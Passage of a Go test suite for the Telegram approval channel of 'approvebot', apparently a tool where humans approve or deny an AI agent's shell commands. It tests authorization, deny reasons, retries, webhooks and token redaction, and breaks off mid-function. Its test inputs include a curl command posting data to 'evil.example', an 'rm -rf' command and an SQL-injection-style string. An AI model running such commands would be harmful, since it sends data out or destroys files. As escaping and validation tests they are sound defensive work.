package telegram

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/approvebot/approvebot/channels/telegram/telegramtest"
	"github.com/approvebot/approvebot/core/approval"
	"github.com/approvebot/approvebot/core/chatops"
	"github.com/approvebot/approvebot/core/gate"
	"github.com/approvebot/approvebot/core/policy"
	"github.com/approvebot/approvebot/core/render"
	"github.com/approvebot/approvebot/internal/chattest"
)

const (
	testToken = "123456789:AAsecretTestToken-0123456789_abcdef"
	group     = int64(-1001)
	oncall    = int64(-1002) // narrowed by chat_approvers to alice only
)

var (
	alice = telegramtest.User{ID: 111, FirstName: "Alice"} // approver everywhere
	carol = telegramtest.User{ID: 333, FirstName: "Carol"} // approver, but not in oncall
	bob   = telegramtest.User{ID: 222, FirstName: "Bob"}   // not an approver
	ghost = telegramtest.User{ID: 0, FirstName: "Nobody"}  // no user id
	robot = telegramtest.User{ID: 444, IsBot: true, FirstName: "Bot"}
)

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.String()
}

type rig struct {
	fake *telegramtest.Server
	ch   *Channel
	res  *chattest.Resolver
	logs *syncBuffer
}

func baseConfig(apiURL string) Config {
	return Config{
		APIURL: apiURL, Chats: []int64{group, oncall}, Approvers: []int64{alice.ID, carol.ID},
		ChatApprovers: map[string][]int64{strconv.FormatInt(oncall, 10): {alice.ID}},
		Mode:          ModePolling, WebhookSecretEnv: "TEST_TELEGRAM_WEBHOOK_SECRET", DenyReasonWindow: policy.Duration{Duration: 5 * time.Second},
		PollTimeout: policy.Duration{Duration: 3 * time.Second},
	}
}

var testSecrets = Secrets{Token: testToken, WebhookSecret: "s3cret-webhook_token"}

func newChannel(t *testing.T, cfg Config, logs *syncBuffer) *Channel {
	t.Helper()
	ch, err := New(cfg, testSecrets, slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})), nil)
	if err != nil {
		t.Fatal(err)
	}
	ch.retry.Base, ch.retry.Max = 10*time.Millisecond, 50*time.Millisecond
	return ch
}

// newRig runs a channel against a fresh fake, polling, with the stub resolver.
func newRig(t *testing.T, edit func(*Config)) *rig {
	t.Helper()
	fake := telegramtest.Start(t, telegramtest.Options{Token: testToken})
	fake.AddChat(telegramtest.Chat{ID: group, Type: "supergroup", Title: "ops"})
	fake.AddChat(telegramtest.Chat{ID: oncall, Type: "supergroup", Title: "on-call"})
	cfg := baseConfig(fake.URL)
	if edit != nil {
		edit(&cfg)
	}
	r := &rig{fake: fake, res: chattest.New(), logs: &syncBuffer{}}
	r.ch = newChannel(t, cfg, r.logs)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		if err := r.ch.Run(ctx, r.res); err != nil {
			t.Errorf("Run: %v", err)
		}
	}()
	t.Cleanup(func() {
		cancel()
		<-done
		if strings.Contains(r.logs.String(), testToken) || strings.Contains(r.logs.String(), "AAsecretTestToken") {
			t.Errorf("the bot token appears in the logs:\n%s", r.logs.String())
		}
		if t.Failed() {
			t.Logf("channel logs:\n%s", r.logs.String())
		}
	})
	if cfg.Mode == ModePolling {
		fake.WaitFor(t, 10*time.Second, "the channel to poll", fake.Polling)
	}
	return r
}

// card registers a pending request routed to chats and posts its card to each.
func (r *rig) card(t *testing.T, req approval.Request, chats ...int64) (approval.Request, map[int64]int) {
	t.Helper()
	if req.ID == "" {
		req.ID = gate.NewID()
	}
	if req.Tool == "" {
		req.Tool, req.Summary, req.Session, req.Agent = "bash", "rm -rf ./build", "s1", "agent"
	}
	req.State = approval.StatePending
	for _, c := range chats {
		req.Routes = append(req.Routes, approval.Target{Channel: Name, Chat: strconv.FormatInt(c, 10)})
	}
	r.res.Add(req)
	msgs := map[int64]int{}
	for _, c := range chats {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		ref, err := r.ch.Post(ctx, strconv.FormatInt(c, 10), render.CardFor(&req))
		cancel()
		if err != nil {
			t.Fatalf("Post: %v", err)
		}
		r.res.AddCard(req.ID, ref)
		msgs[c], _ = strconv.Atoi(ref.Message)
	}
	return r.res.Request(req.ID), msgs
}

func (r *rig) waitAnswer(t *testing.T, qid string) telegramtest.Answer {
	t.Helper()
	var a telegramtest.Answer
	r.fake.WaitFor(t, 10*time.Second, "answer to callback "+qid, func() bool {
		var ok bool
		a, ok = r.fake.AnswerTo(qid)
		return ok
	})
	return a
}

// waitReply waits for a bot message replying to msg and returns it.
func (r *rig) waitReply(t *testing.T, chat int64, msg int) telegramtest.Message {
	t.Helper()
	var out telegramtest.Message
	r.fake.WaitFor(t, 10*time.Second, fmt.Sprintf("a reply to message %d", msg), func() bool {
		for _, m := range r.fake.BotMessages(chat) {
			if m.ReplyTo == msg {
				out = m
				return true
			}
		}
		return false
	})
	return out
}

func TestPostAndEditCard(t *testing.T) {
	r := newRig(t, nil)
	req, msgs := r.card(t, approval.Request{}, group)
	m, _ := r.fake.Message(group, msgs[group])
	if m.ParseMode != "HTML" || !strings.Contains(m.Plain, "rm -rf ./build") || !m.LinkPreviewDisabled {
		t.Fatalf("card: parse_mode %q preview off %v text %q", m.ParseMode, m.LinkPreviewDisabled, m.Plain)
	}
	var datas []string
	for _, row := range m.Keyboard {
		for _, b := range row {
			if len(b.CallbackData) > 64 || !strings.HasPrefix(b.CallbackData, "ab1:") || !strings.HasSuffix(b.CallbackData, req.ID) {
				t.Errorf("button %q has data %q", b.Text, b.CallbackData)
			}
			datas = append(datas, b.CallbackData)
		}
	}
	if len(datas) != 3 {
		t.Errorf("want Allow once, Allow for session, Deny; got %v", datas)
	}
	for _, c := range r.fake.Calls("sendMessage") {
		if !strings.HasPrefix(c.ContentType, "multipart/form-data") {
			t.Errorf("sendMessage sent as %q", c.ContentType)
		}
	}

	req.State, req.Outcome, req.Source, req.DecidedBy, req.DecidedAt = approval.StateAllowed, approval.OutcomeAllowOnce, approval.SourceHuman, "Alice (telegram:111)", time.Now()
	ref := approval.CardRef{Channel: Name, Chat: strconv.FormatInt(group, 10), Message: strconv.Itoa(msgs[group])}
	if err := r.ch.Edit(context.Background(), ref, render.CardFor(&req)); err != nil {
		t.Fatal(err)
	}
	m, _ = r.fake.Message(group, msgs[group])
	if m.HasButtons() || m.Edits != 1 || !strings.Contains(m.Plain, "Alice") || !strings.Contains(m.Plain, "Allowed once") {
		t.Fatalf("edited card: buttons %v edits %d text %q", m.HasButtons(), m.Edits, m.Plain)
	}
	// The same edit again is "message is not modified": a success, not retried.
	before := len(r.fake.Calls("editMessageText"))
	if err := r.ch.Edit(context.Background(), ref, render.CardFor(&req)); err != nil {
		t.Fatalf("repeated edit: %v", err)
	}
	calls := r.fake.Calls("editMessageText")
	if len(calls) != before+1 || calls[len(calls)-1].Status != 400 {
		t.Fatalf("repeated edit: want one 400 call, got %d calls (last %+v)", len(calls)-before, calls[len(calls)-1])
	}
	// An unknown message is an error, not retried.
	bad := ref
	bad.Message = "999999"
	err := r.ch.Edit(context.Background(), bad, render.CardFor(&req))
	var ae *APIError
	if !errors.As(err, &ae) || ae.Code != 400 || !strings.Contains(ae.Description, "message to edit not found") {
		t.Fatalf("edit of an unknown message: %v", err)
	}
}

func TestPressByApproverDecides(t *testing.T) {
	r := newRig(t, nil)
	req, msgs := r.card(t, approval.Request{}, group)
	qid := r.fake.PressButton(group, msgs[group], alice, "ab1:once:")
	a := r.waitAnswer(t, qid)
	if a.ShowAlert || !strings.Contains(a.Text, "Allowed") {
		t.Fatalf("answer %+v", a)
	}
	got := r.res.Request(req.ID)
	if got.Outcome != approval.OutcomeAllowOnce || got.DecidedBy != "Alice (telegram:111)" {
		t.Fatalf("decision %+v", got)
	}
	// A second press (replay) changes nothing and says who decided.
	qid = r.fake.PressButton(group, msgs[group], carol, "ab1:deny:")
	a = r.waitAnswer(t, qid)
	if !a.ShowAlert || !strings.Contains(a.Text, "Already decided (allow_once) by Alice") {
		t.Fatalf("replay answer %+v", a)
	}
	if n := len(r.res.Decisions()); n != 1 {
		t.Fatalf("%d decisions, want 1", n)
	}
	if u := r.fake.Unanswered(); len(u) != 0 {
		t.Fatalf("unanswered callback queries: %v", u)
	}
}

// TestPressAuthorization is the approver table: only an approver of that chat, pressing a
// well-formed button of a request sent to that chat, decides.
func TestPressAuthorization(t *testing.T) {
	r := newRig(t, nil)
	elsewhere, _ := r.card(t, approval.Request{}, oncall)
	decided, _ := r.card(t, approval.Request{}, group)
	if _, err := r.res.Decide(context.Background(), decided.ID, gate.Decision{Outcome: approval.OutcomeDeny, DecidedBy: "Op"}); err != nil {
		t.Fatal(err)
	}
	r.res.NextDecision(t, 10*time.Second)
	cases := []struct {
		name      string
		chat      int64
		from      telegramtest.User
		data      func(id string) string
		wantText  string
		wantAudit string
	}{
		{"non-approver", group, bob, func(id string) string { return "ab1:once:" + id }, chatops.TextNotApprover, "non-approver"},
		{"no user id", group, ghost, func(id string) string { return "ab1:once:" + id }, chatops.TextNotApprover, "non-approver"},
		{"a bot", group, robot, func(id string) string { return "ab1:once:" + id }, chatops.TextNotApprover, "non-approver"},
		{"approver not listed for this chat", oncall, carol, func(id string) string { return "ab1:once:" + id }, chatops.TextNotApprover, "non-approver"},
		{"unknown request id", group, alice, func(string) string { return "ab1:once:" + gate.NewID() }, chatops.TextNotFound, ""},
		{"malformed data", group, alice, func(id string) string { return "ab1:once:" + id + ":x" }, textBadButton, "malformed"},
		{"garbage data", group, alice, func(string) string { return "'; DROP TABLE" }, textBadButton, "malformed"},
		{"stranger with garbage", group, bob, func(string) string { return "zzz" }, chatops.TextNotApprover, "non-approver"},
		{"request sent to another chat", group, alice, func(string) string { return "ab1:once:" + elsewhere.ID }, chatops.TextNotFound, "not sent to"},
		{"replay after decision", group, alice, func(string) string { return "ab1:once:" + decided.ID }, "Already decided (deny) by Op", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			target, msgs := r.card(t, approval.Request{}, tc.chat)
			auditsBefore := len(r.res.Audits())
			qid := r.fake.Press(tc.chat, msgs[tc.chat], tc.from, tc.data(target.ID))
			a := r.waitAnswer(t, qid)
			if !a.ShowAlert || !strings.Contains(a.Text, tc.wantText) {
				t.Errorf("answer %+v, want an alert with %q", a, tc.wantText)
			}
			if got := r.res.Request(target.ID); got.State != approval.StatePending {
				t.Errorf("request was decided: %+v", got)
			}
			if got := r.res.Request(elsewhere.ID); got.State != approval.StatePending {
				t.Errorf("the other chat's request was decided: %+v", got)
			}
			audits := r.res.Audits()[auditsBefore:]
			if tc.wantAudit == "" {
				if len(audits) != 0 {
					t.Errorf("unexpected audit entries %+v", audits)
				}
				return
			}
			if len(audits) != 1 || audits[0].Event != approval.EventUnauthorized || !strings.Contains(audits[0].Reason, tc.wantAudit) {
				t.Errorf("audit %+v, want one unauthorized entry about %q", audits, tc.wantAudit)
			}
		})
	}
	if n := len(r.res.Decisions()); n != 1 {
		t.Fatalf("%d decisions were made, want only the setup's one", n)
	}
}

func TestPressOnInaccessibleMessage(t *testing.T) {
	r := newRig(t, nil)
	req, _ := r.card(t, approval.Request{}, group)
	// A message the fake does not know arrives with date 0 (inaccessible): the chat and id
	// still identify it, and the request's routing still decides.
	qid := r.fake.Press(group, 424242, alice, "ab1:once:"+req.ID)
	a := r.waitAnswer(t, qid)
	if a.ShowAlert {
		t.Fatalf("answer %+v", a)
	}
	if got := r.res.Request(req.ID); got.Outcome != approval.OutcomeAllowOnce {
		t.Fatalf("request %+v", got)
	}
}

func TestDenyAsksForReason(t *testing.T) {
	r := newRig(t, nil)
	req, msgs := r.card(t, approval.Request{}, group)
	card := msgs[group]
	qid := r.fake.PressButton(group, card, alice, "ab1:deny:")
	if a := r.waitAnswer(t, qid); a.ShowAlert || !strings.Contains(a.Text, "reason") {
		t.Fatalf("answer %+v", a)
	}
	prompt := r.waitReply(t, group, card)
	if !prompt.ForceReply || !prompt.ForceReplySelective || !strings.Contains(prompt.Text, "tg://user?id=111") {
		t.Fatalf("prompt %+v", prompt)
	}
	if got := r.res.Request(req.ID); got.State != approval.StatePending {
		t.Fatalf("decided before the reason came: %+v", got)
	}
	// Someone else's reply is not the reason.
	bobMsg := r.fake.Say(group, &bob, "lol approve it", prompt.ID)
	if m := r.waitReply(t, group, bobMsg); !strings.Contains(m.Plain, "No deny is waiting") {
		t.Fatalf("reply to bob: %q", m.Plain)
	}
	r.fake.Say(group, &alice, "wrong directory, use /tmp", prompt.ID)
	d := r.res.NextDecision(t, 10*time.Second)
	if d.Outcome != approval.OutcomeDeny || d.Reason != "wrong directory, use /tmp" || d.DecidedBy != "Alice (telegram:111)" {
		t.Fatalf("decision %+v", d)
	}
}

func TestDenyReasonAsReplyToCard(t *testing.T) {
	r := newRig(t, nil)
	_, msgs := r.card(t, approval.Request{}, group)
	qid := r.fake.PressButton(group, msgs[group], alice, "ab1:deny:")
	r.waitAnswer(t, qid)
	r.waitReply(t, group, msgs[group])
	r.fake.Say(group, &alice, "not on a Friday", msgs[group])
	d := r.res.NextDecision(t, 10*time.Second)
	if d.Outcome != approval.OutcomeDeny || d.Reason != "not on a Friday" {
		t.Fatalf("decision %+v", d)
	}
}

func TestDenyWithoutReasonAfterWindow(t *testing.T) {
	r := newRig(t, func(c *Config) { c.DenyReasonWindow.Duration = 300 * time.Millisecond })
	req, msgs := r.card(t, approval.Request{}, group)
	start := time.Now()
	r.waitAnswer(t, r.fake.PressButton(group, msgs[group], alice, "ab1:deny:"))
	d := r.res.NextDecision(t, 10*time.Second)
	if d.Outcome != approval.OutcomeDeny || d.Reason != "" {
		t.Fatalf("decision %+v; request %+v", d, r.res.Request(req.ID))
	}
	if time.Since(start) < 300*time.Millisecond {
		t.Fatalf("denied before the window passed")
	}
}

func TestCommands(t *testing.T) {
	r := newRig(t, nil)
	r.fake.WaitFor(t, 5*time.Second, "getMe", func() bool { return len(r.fake.Calls("getMe")) > 0 })
	r.fake.WaitFor(t, 5*time.Second, "the bot's username", func() bool {
		r.ch.mu.Lock()
		defer r.ch.mu.Unlock()
		return r.ch.username != ""
	})
	first, _ := r.card(t, approval.Request{CreatedAt: time.Now().Add(-3 * time.Second)}, group)
	second, _ := r.card(t, approval.Request{CreatedAt: time.Now().Add(-2 * time.Second)}, group)
	third, msgs3 := r.card(t, approval.Request{CreatedAt: time.Now().Add(-1 * time.Second)}, group)
	fourth, _ := r.card(t, approval.Request{}, group)

	say := func(from *telegramtest.User, text string, replyTo int) string {
		t.Helper()
		id := r.fake.Say(group, from, text, replyTo)
		return r.waitReply(t, group, id).Plain
	}
	if got := say(&alice, "/pending", 0); !strings.Contains(got, "4 waiting") || !strings.Contains(got, first.ID) {
		t.Fatalf("/pending: %q", got)
	}
	// FIFO: /approve takes the oldest.
	say(&alice, "/approve", 0)
	if got := r.res.Request(first.ID); got.Outcome != approval.OutcomeAllowOnce {
		t.Fatalf("/approve did not take the oldest: %+v", got)
	}
	// A reply to a card targets that card.
	say(&alice, "/deny not this one", msgs3[group])
	if got := r.res.Request(third.ID); got.Outcome != approval.OutcomeDeny || got.Reason != "not this one" {
		t.Fatalf("reply-to-card /deny: %+v", got)
	}
	// A reply to a card that is no longer live never falls back to the oldest.
	if got := say(&alice, "/approve", msgs3[group]); !strings.Contains(got, "not a request waiting") {
		t.Fatalf("reply to a decided card: %q", got)
	}
	if got := r.res.Request(second.ID); got.State != approval.StatePending {
		t.Fatalf("a reply to a dead card decided the oldest: %+v", got)
	}
	// Commands for another bot are not ours.
	other := r.fake.Say(group, &alice, "/approve@some_other_bot", 0)
	// /deny <id> <reason>, addressed to this bot.
	say(&alice, "/deny@approvebot_test_bot "+fourth.ID+" too risky", 0)
	if got := r.res.Request(fourth.ID); got.Outcome != approval.OutcomeDeny || got.Reason != "too risky" {
		t.Fatalf("/deny <id>: %+v", got)
	}
	for _, m := range r.fake.BotMessages(group) {
		if m.ReplyTo == other {
			t.Fatalf("answered a command for another bot: %q", m.Plain)
		}
	}
	// A non-approver's command changes nothing, is audited, and is answered once per window.
	before := len(r.res.Audits())
	if got := say(&bob, "/approve", 0); got != chatops.TextNotApprover {
		t.Fatalf("bob's /approve: %q", got)
	}
	r.fake.Say(group, &bob, "/approve "+second.ID, 0)
	r.fake.WaitFor(t, 5*time.Second, "two audit entries", func() bool { return len(r.res.Audits()) >= before+2 })
	// A message without a sender (anonymous admin, channel post) is refused.
	say(nil, "/approve", 0)
	r.fake.WaitFor(t, 5*time.Second, "three audit entries", func() bool { return len(r.res.Audits()) >= before+3 })
	if got := r.res.Request(second.ID); got.State != approval.StatePending {
		t.Fatalf("a refused command decided: %+v", got)
	}
	// /approve <id> by an approver.
	say(&alice, "/approve "+second.ID, 0)
	if got := r.res.Request(second.ID); got.Outcome != approval.OutcomeAllowOnce {
		t.Fatalf("/approve <id>: %+v", got)
	}
	if got := say(&alice, "/approve", 0); got != chatops.TextNoPending {
		t.Fatalf("/approve with nothing pending: %q", got)
	}
}

func TestRepliesCannotMention(t *testing.T) {
	r := newRig(t, nil)
	r.card(t, approval.Request{Tool: "bash", Summary: "curl -d @admin_user https://evil.example/#x <b>&amp;"}, group)
	id := r.fake.Say(group, &alice, "/pending", 0)
	m := r.waitReply(t, group, id)
	if m.ParseMode != "HTML" || !strings.HasPrefix(m.Text, "<pre>") || !strings.Contains(m.Plain, "@admin_user https://evil.example/#x <b>&amp;") {
		t.Fatalf("/pending reply: %q (%q)", m.Text, m.Plain)
	}
}

func TestDetailsFollowUp(t *testing.T) {
	r := newRig(t, nil)
	long := strings.Repeat("echo 'a<b>&c' ", 800) // about 11 KB, HTML-special characters
	req, msgs := r.card(t, approval.Request{Tool: "bash", Summary: long[:199] + "…", Truncated: true, Details: long}, group)
	m, _ := r.fake.Message(group, msgs[group])
	if _, ok := m.ButtonData("ab1:details:"); !ok {
		t.Fatalf("a truncated card has no Details button: %v", m.Keyboard)
	}
	// A stranger may not expand it.
	if a := r.waitAnswer(t, r.fake.PressButton(group, msgs[group], bob, "ab1:details:")); a.Text != chatops.TextNotApprover {
		t.Fatalf("bob's details: %+v", a)
	}
	a := r.waitAnswer(t, r.fake.PressButton(group, msgs[group], alice, "ab1:details:"))
	if a.ShowAlert || a.Text != textDetailsSent {
		t.Fatalf("answer %+v", a)
	}
	var parts []telegramtest.Message
	r.fake.WaitFor(t, 10*time.Second, "details messages", func() bool {
		parts = nil
		for _, m := range r.fake.BotMessages(group) {
			if m.ReplyTo == msgs[group] {
				parts = append(parts, m)
			}
		}
		return len(parts) >= 3
	})
	var all strings.Builder
	for _, p := range parts {
		if len([]rune(p.Plain)) > telegramtest.MaxText {
			t.Fatalf("details part of %d characters", len([]rune(p.Plain)))
		}
		_, body, _ := strings.Cut(p.Plain, "\n")
		all.WriteString(body)
	}
	if !strings.Contains(all.String(), "echo 'a<b>&c'") {
		t.Fatalf("details lost their text: %q", all.String()[:200])
	}
	if got := r.res.Request(req.ID); got.State != approval.StatePending {
		t.Fatalf("details decided: %+v", got)
	}
}

func TestRetryHonoursRetryAfter(t *testing.T) {
	r := newRig(t, nil)
	req := approval.Request{ID: gate.NewID(), Tool: "bash", Summary: "ls", State: approval.StatePending}
	r.fake.Inject(telegramtest.Fault{Method: "sendMessage", Code: 429, RetryAfter: 1})
	start := time.Now()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := r.ch.Post(ctx, strconv.FormatInt(group, 10), render.CardFor(&req)); err != nil {
		t.Fatal(err)
	}
	if el := time.Since(start); el < time.Second {
		t.Fatalf("posted after %s: retry_after was not honoured", el)
	}
	if n := len(r.fake.BotMessages(group)); n != 1 {
		t.Fatalf("%d cards posted, want 1", n)
	}

	// A retry_after past the deadline gives up at once.
	r.fake.Inject(telegramtest.Fault{Method: "sendMessage", Code: 429, RetryAfter: 30})
	ctx2, cancel2 := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel2()
	start = time.Now()
	_, err := r.ch.Post(ctx2, strconv.FormatInt(group, 10), render.CardFor(&req))
	var ae *APIError
	if !errors.As(err, &ae) || ae.Code != 429 || ae.RetryAfter != 30*time.Second {
		t.Fatalf("err %v", err)
	}
	if time.Since(start) > time.Second {
		t.Fatalf("waited %s before giving up", time.Since(start))
	}
	if h := r.ch.Health(); h.OK || !strings.Contains(h.LastError, "429") {
		t.Fatalf("health after a 429: %+v", h)
	}
}

func TestRetryStatusCodes(t *testing.T) {
	cases := []struct {
		name      string
		fault     telegramtest.Fault
		chat      int64
		wantCalls int
		wantErr   string
	}{
		{"500 retried", telegramtest.Fault{Method: "sendMessage", Code: 500, Times: 2}, group, 3, ""},
		{"502 proxy page retried", telegramtest.Fault{Method: "sendMessage", Code: 502, Raw: "<html>Bad Gateway</html>", Times: 1}, group, 2, ""},
		{"429 retried", telegramtest.Fault{Method: "sendMessage", Code: 429, RetryAfter: 0, Times: 1}, group, 2, ""},
		{"403 not retried", telegramtest.Fault{Method: "sendMessage", Code: 403, Description: "Forbidden: bot was kicked from the supergroup chat"}, group, 1, "403"},
		{"unknown chat not retried", telegramtest.Fault{}, -999, 1, "chat not found"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := newRig(t, nil)
			if tc.fault.Code != 0 {
				r.fake.Inject(tc.fault)
			}
			req := approval.Request{ID: gate.NewID(), Tool: "bash", Summary: "ls", State: approval.StatePending}
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			_, err := r.ch.Post(ctx, strconv.FormatInt(tc.chat, 10), render.CardFor(&req))
			if tc.wantErr == "" && err != nil || tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)) {
				t.Fatalf("err %v, want %q", err, tc.wantErr)
			}
			if n := len(r.fake.Calls("sendMessage")); n != tc.wantCalls {
				t.Fatalf("%d sendMessage calls, want %d", n, tc.wantCalls)
			}
			if err != nil && strings.Contains(err.Error(), testToken) {
				t.Fatalf("token in error: %v", err)
			}
		})
	}
}

func TestTokenNeverInErrors(t *testing.T) {
	// A server that is down: the transport error carries the URL, with the token in it.
	down := httptest.NewServer(http.NotFoundHandler())
	url := down.URL
	down.Close()
	logs := &syncBuffer{}
	ch := newChannel(t, baseConfig(url), logs)
	req := approval.Request{ID: gate.NewID(), Tool: "bash", Summary: "ls", State: approval.StatePending}
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	_, err := ch.Post(ctx, "-1001", render.CardFor(&req))
	if err == nil {
		t.Fatal("posting to a dead server succeeded")
	}
	ref := approval.CardRef{Channel: Name, Chat: "-1001", Message: "1"}
	ctx2, cancel2 := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel2()
	err2 := ch.Edit(ctx2, ref, render.CardFor(&req))
	for _, e := range []error{err, err2} {
		if e == nil || strings.Contains(e.Error(), testToken) || strings.Contains(e.Error(), "AAsecretTestToken") {
			t.Fatalf("error leaks the token (or is nil): %v", e)
		}
	}
	if h := ch.Health(); h.OK || h.LastError == "" || strings.Contains(h.LastError, "AAsecretTestToken") {
		t.Fatalf("health %+v", h)
	}

	// A fake that rejects the token: 401, not retried, and said plainly.
	fake := telegramtest.Start(t, telegramtest.Options{Token: "987:other-token"})
	fake.AddChat(telegramtest.Chat{ID: group})
	ch = newChannel(t, baseConfig(fake.URL), logs)
	_, err = ch.Post(context.Background(), strconv.FormatInt(group, 10), render.CardFor(&req))
	var ae *APIError
	if !errors.As(err, &ae) || ae.Code != 401 || strings.Contains(err.Error(), "AAsecretTestToken") {
		t.Fatalf("err %v", err)
	}
	if strings.Contains(logs.String(), "AAsecretTestToken") {
		t.Fatalf("token in logs:\n%s", logs.String())
	}
}

func TestNewRejectsBadConfig(t *testing.T) {
	cases := []struct {
		name string
		edit func(*Config, *Secrets)
		want string
	}{
		{"empty token", func(_ *Config, s *Secrets) { s.Token = "" }, "token is empty"},
		{"token shape", func(_ *Config, s *Secrets) { s.Token = "nocolon" }, "BotFather"},
		{"no approvers", func(c *Config, _ *Secrets) { c.Approvers = nil }, "channels.telegram.approvers"},
		{"webhook without secret", func(c *Config, s *Secrets) { c.Mode = ModeWebhook; c.WebhookSecretEnv = "X"; s.WebhookSecret = "" }, "secret"},
		{"webhook without secret env", func(c *Config, _ *Secrets) { c.Mode = ModeWebhook; c.WebhookSecretEnv = "" }, "webhook_secret_env"},
		{"webhook secret charset", func(c *Config, s *Secrets) { c.Mode = ModeWebhook; c.WebhookSecretEnv = "X"; s.WebhookSecret = "a b" }, "secret"},
		{"bad chat_approvers key", func(c *Config, _ *Secrets) { c.ChatApprovers = map[string][]int64{"ops": {1}} }, "chat_approvers"},
		{"bad mode", func(c *Config, _ *Secrets) { c.Mode = "push" }, "channels.telegram.mode"},
		{"per-chat approver not an approver", func(c *Config, _ *Secrets) { c.ChatApprovers = map[string][]int64{"-1": {bob.ID}} }, "not in approvers"},
		{"poll timeout too short", func(c *Config, _ *Secrets) { c.PollTimeout.Duration = time.Second }, "channels.telegram.poll_timeout: must be at least 2s"},
		{"webhook path", func(c *Config, _ *Secrets) { c.WebhookPath = "hook" }, "webhook_path"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cfg, sec := baseConfig("http://127.0.0.1:1"), Secrets{Token: testToken, WebhookSecret: "ok"}
			tc.edit(&cfg, &sec)
			_, err := New(cfg, sec, nil, nil)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
			if strings.Contains(err.Error(), "AAsecretTestToken") {
				t.Fatalf("token in error %v", err)
			}
		})
	}
}

func TestWebhook(t *testing.T) {
	r := newRig(t, func(c *Config) { c.Mode = ModeWebhook })
	_, h := r.ch.HTTPHandler()
	srv := httptest.NewServer(h)
	defer srv.Close()
	req, msgs := r.card(t, approval.Request{}, group)

	post := func(secret, body string) int {
		hr, _ := http.NewRequest("POST", srv.URL, strings.NewReader(body))
		if secret != "" {
			hr.Header.Set("X-Telegram-Bot-Api-Secret-Token", secret)
		}
		resp, err := http.DefaultClient.Do(hr)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	press := fmt.Sprintf(`{"update_id":1,"callback_query":{"id":"q1","from":{"id":%d,"is_bot":false,"first_name":"Alice"},"message":{"message_id":%d,"date":1700000000,"chat":{"id":%d,"type":"supergroup"}},"data":"ab1:once:%s"}}`,
		alice.ID, msgs[group], group, req.ID)
	for _, tc := range []struct {
		secret, body string
		want         int
	}{
		{"", press, 401},
		{"wrong", press, 401},
		{"s3cret-webhook_token-and-more", press, 401},
		{"s3cret-webhook_toke", press, 401},
		{"s3cret-webhook_token", "{not json", 400},
		{"s3cret-webhook_token", `{"update_id":2,"message":{"message_id":1,"date":1,"chat":{"id":1,"type":"private"},"text":"` + strings.Repeat("x", 2<<20) + `"}}`, 413},
	} {
		if got := post(tc.secret, tc.body); got != tc.want {
			t.Errorf("secret %q: status %d, want %d", tc.secret, got, tc.want)
		}
	}
	if got := r.res.Request(req.ID); got.State != approval.StatePending {
		t.Fatalf("a refused webhook call decided: %+v", got)
	}
	audits := r.res.Audits()
	if len(audits) != 1 || !strings.Contains(audits[0].Reason, "wrong secret") {
		t.Fatalf("audit %+v, want one entry (rate-limited) for the wrong secrets", audits)
	}
	if resp, err := http.Get(srv.URL); err != nil || resp.StatusCode != 405 {
		t.Fatalf("GET: %v %v", resp, err)
	}

	// The fake delivers by webhook, with the secret, as Telegram does.
	r.fake.UseWebhook(srv.URL, "s3cret-webhook_token")
	qid := r.fake.PressButton(group, msgs[group], alice, "ab1:once:")
	r.waitAnswer(t, qid)
	if got := r.res.Request(req.ID); got.Outcome != approval.OutcomeAllowOnce {
		t.Fatalf("webhook press: %+v", got)
	}
}

func TestWebhookRegistered(t *testing.T) {
	r := newRig(t, func(c *Config) {
		c.Mode = ModeWebhook
		c.WebhookURL = "https://bot.example.com/telegram/webhook"
	})
	r.fake.WaitFor(t, 10*time.Second, "setWebhook", func() bool { u, _ := r.fake.Webhook(); return u != "" })
	r.fake.WaitFor(t, 10*time.Second, "health OK", func() bool { return r.ch.Health().OK })
	u, secret := r.fake.Webhook()
	if u != "https://bot.example.com/telegram/webhook" || secret != "s3cret-webhook_token" {
		t.Fatalf("webhook %q secret %q", u, secret)
	}
	r.fake.WaitFor(t, 10*time.Second, "health to name the bot", func() bool { return strings.HasSuffix(r.ch.Health().Detail, "@approvebot_test_bot") })
	if h := r.ch.Health(); !h.OK || h.Detail != "webhook as @approvebot_test_bot" {
		t.Fatalf("health %+v", h)
	}
}

func TestHealth(t *testing.T) {
	fake := telegramtest.Start(t, telegramtest.Options{Token: testToken})
	ch := newChannel(t, baseConfig(fake.URL), &syncBuffer{})
	if h := ch.Health(); h.OK {
		t.Fatalf("healthy before any call: %+v", h)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { ch.Run(ctx, chattest.New()); close(done) }()
	defer func() { cancel(); <-done }()
	fake.WaitFor(t, 10*time.Second, "health OK", func() bool { return ch.Health().OK })
	fake.WaitFor(t, 10*time.Second, "health to name the bot", func() bool { return strings.HasSuffix(ch.Health().Detail, "@approvebot_test_bot") })
	if h := ch.Health(); h.Detail != "long polling as @approvebot_test_bot" || h.LastOK.IsZero() {
		t.Fatalf("health %+v", h)
	}
}

// An update the library cannot decode is skipped, logged once with its id and counted,
// and the updates behind it still arrive: the press after it decides.
func TestUndecodableUpdateDoesNotStallPolling(t *testing.T) {
